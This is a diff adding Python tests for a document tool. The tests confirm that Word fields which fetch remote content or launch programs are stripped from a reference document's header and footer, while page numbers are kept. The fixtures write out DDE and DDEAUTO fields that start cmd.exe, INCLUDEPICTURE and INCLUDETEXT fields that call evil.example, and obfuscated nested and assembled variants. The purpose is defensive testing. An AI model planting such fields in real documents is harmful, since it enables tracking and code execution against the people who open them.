@@ -633,3 +633,138 @@ def test_reference_leaks_nothing_but_its_header(run, in_tmp: Path) -> None:
     assert b"<Company>ACME Corp</Company>" in parts["docProps/app.xml"]
     document = docx.Document(str(out))
     assert document.core_properties.title and not document.core_properties.comments
+
+
+# --- fields Word would run: removed from the header and footer, page numbers kept ----------------
+
+
+def simple_field(instruction: str, shown: str) -> str:
+    return (f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>{shown}</w:t></w:r>'
+            "</w:fldSimple>")
+
+
+def complex_field(*pieces: str, shown: str = "", result: str | None = None,
+                  split: bool = True) -> str:
+    """A complex field; its instruction `pieces` each in an instrText, one run per piece when
+    `split`, else all in one run; `result` is raw run XML shown (default: `shown` as text)."""
+    texts = [f'<w:instrText xml:space="preserve">{piece}</w:instrText>' for piece in pieces]
+    code = "".join(f"<w:r>{t}</w:r>" for t in texts) if split else f"<w:r>{''.join(texts)}</w:r>"
+    shown_runs = result if result is not None else f"<w:r><w:t>{shown}</w:t></w:r>"
+    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code
+            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + shown_runs
+            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+PICTURE_RESULT = ('<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
+                  '<wp:docPr id="7" name="beacon"/></wp:inline></w:drawing></w:r>')
+HOSTILE = {  # the fields, in both forms, that a reference's header and footer may not keep
+    "INCLUDEPICTURE": 'INCLUDEPICTURE &quot;http://evil.example/beacon.png&quot; \\d',
+    "INCLUDETEXT": 'INCLUDETEXT &quot;http://evil.example/text.docx&quot;',
+    "HYPERLINK": 'HYPERLINK &quot;http://evil.example/link&quot;',
+    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;',
+    "DDE": 'DDE &quot;c:\\\\windows\\\\system32\\\\cmd.exe&quot; &quot;/c calc&quot;',
+}
+
+
+def field_reference(path: Path) -> Path:
+    """A reference whose header and footer hold every hostile field in both forms (split over
+    runs and instrText elements, nested, built from another field) beside PAGE and NUMPAGES."""
+    document = docx.Document()
+    section = document.sections[0]
+    header = ["<w:r><w:t xml:space=\"preserve\">ACME header </w:t></w:r>"]
+    for index, (name, instruction) in enumerate(HOSTILE.items()):
+        header.append(simple_field(instruction, f"simple-{index}"))
+        middle = len(name) // 2  # the name itself split between two instrText elements
+        header.append(complex_field(" " + instruction[:middle], instruction[middle:] + " ",
+                                    shown=f"complex-{index}", split=index % 2 == 0))
+    header.append(complex_field(" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; ",
+                                result=PICTURE_RESULT))
+    # IF is not on the list, and holds INCLUDETEXT in its shown result: all of it goes.
+    header.append(complex_field(' IF 1 = 1 "', shown="nested-shown", result=(
+        "<w:r><w:t>nested-shown</w:t></w:r>"
+        + complex_field(" INCLUDETEXT &quot;http://evil.example/nested&quot; ", shown="inner"))))
+    # A field whose name comes from another field's result: Word would run what QUOTE spells.
+    header.append('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                  + complex_field(' QUOTE "INCLUDE" ', shown="INCLUDE")
+                  + '<w:r><w:instrText>PICTURE "http://evil.example/built.png"</w:instrText></w:r>'
+                    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
+                    '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    header.append(simple_field(" PAGE ", "1"))
+    header.append(complex_field(" PA", "GE \\* Arabic ", shown="1"))
+    footer = [
+        complex_field(" DDEAUTO c:\\\\x.exe ", shown="footer-dde"),
+        simple_field(" NUMPAGES ", "9"),
+        simple_field(" FILENAME \\p ", "C:\\Users\\someone\\ref.docx"),
+        simple_field(" FILENAME ", "ref.docx"),
+    ]
+    for story, runs in ((section.header, header), (section.footer, footer)):
+        paragraph = story.paragraphs[0]._p
+        for element in parse_xml(f'<w:p {nsdecls("w", "wp")}>{"".join(runs)}</w:p>'):
+            paragraph.append(element)
+    document.save(str(path))
+    return path
+
+
+def instructions(part: bytes) -> list[str]:
+    """Every field instruction in a part, in both forms."""
+    tree = etree.fromstring(part)
+    found = [str(value).strip()
+             for value in tree.xpath("//w:fldSimple/@w:instr", namespaces={"w": W_NS})]
+    complex_ = "".join(
+        "\0" if e.tag == f"{{{W_NS}}}fldChar" else (e.text or "")
+        for e in tree.iter(f"{{{W_NS}}}fldChar", f"{{{W_NS}}}instrText"))
+    return found + [piece.strip() for piece in complex_.split("\0") if piece.strip()]
+
+
+def shown_text(part: bytes) -> str:
+    return "".join(etree.fromstring(part).xpath("//w:t/text()", namespaces={"w": W_NS}))
+
+
+def test_fields_word_would_run_are_removed_and_named(run, in_tmp: Path) -> None:
+    reference = field_reference(in_tmp / "fields.docx")
+    before = b"".join(everything(reference).values())
+    for name in (*HOSTILE, "evil.example"):
+        assert name.encode() in before, name  # the fixture really holds them
+    result = render(run, reference)
+    out = written(result, in_tmp)
+    assert "Traceback" not in result.stderr
+    assert (f"warning: reference document {reference}: removed fields Word would run: "
+            "INCLUDEPICTURE, INCLUDETEXT, HYPERLINK, DDEAUTO, DDE, IF, a field built from "
+            "another field, QUOTE, FILENAME \\p (they fetch files or addresses, or start programs, "
+            "when the QSR is opened; page numbers, dates and the title stay)"
+            ) in " ".join(result.stderr.split())
+    assert result.stderr.count("removed fields") == 1, result.stderr
+    parts = everything(out)
+    header = next(data for name, data in parts.items() if name.startswith("word/header"))
+    footer = next(data for name, data in parts.items() if name.startswith("word/footer"))
+    for part in (header, footer):
+        for word in (b"INCLUDEPICTURE", b"INCLUDETEXT", b"HYPERLINK", b"DDE", b"QUOTE", b"IF ",
+                     b"evil.example", b"cmd.exe", b"\\p"):
+            assert word not in part, word
+    assert instructions(header) == ["PAGE", "PAGE \\* Arabic"]
+    assert instructions(footer) == ["NUMPAGES", "FILENAME"]
+    text = shown_text(header)
+    # A removed field keeps what it showed when that is plain text in one paragraph...
+    assert "ACME header simple-0complex-0simple-1complex-1simple-2complex-2" in text
+    # ... and goes whole when it showed a picture, or held another field.
+    assert b"<w:drawing" not in header and "nested-shown" not in text and "inner" not in text
+    assert text.endswith("complex-4built11")  # the built field's shown text; two PAGEs
+    shown = shown_text(footer)
+    assert shown.startswith("footer-dde9C:\\Users\\someone\\ref.docx"), shown
+
+
+def test_page_numbers_and_dates_stay_without_a_warning(run, in_tmp: Path) -> None:
+    document = docx.Document()
+    runs = (simple_field(" PAGE ", "1") + complex_field(" NUMPAGES ", shown="2")
+            + complex_field(" DATE \\@ &quot;d MMMM yyyy&quot; ", shown="today")
+            + simple_field(" STYLEREF Heading1 ", "h") + complex_field(" SECTIONPAGES ", shown="3"))
+    paragraph = document.sections[0].footer.paragraphs[0]._p
+    for element in parse_xml(f'<w:p {nsdecls("w")}>{runs}</w:p>'):
+        paragraph.append(element)
+    document.save(str(in_tmp / "plain.docx"))
+    result = render(run, in_tmp / "plain.docx")
+    out = written(result, in_tmp)
+    assert "removed fields" not in result.stderr, result
+    footer = next(data for name, data in everything(out).items() if name.startswith("word/footer"))
+    assert instructions(footer) == ["PAGE", "STYLEREF Heading1", "NUMPAGES",
+                                    'DATE \\@ "d MMMM yyyy"', "SECTIONPAGES"]
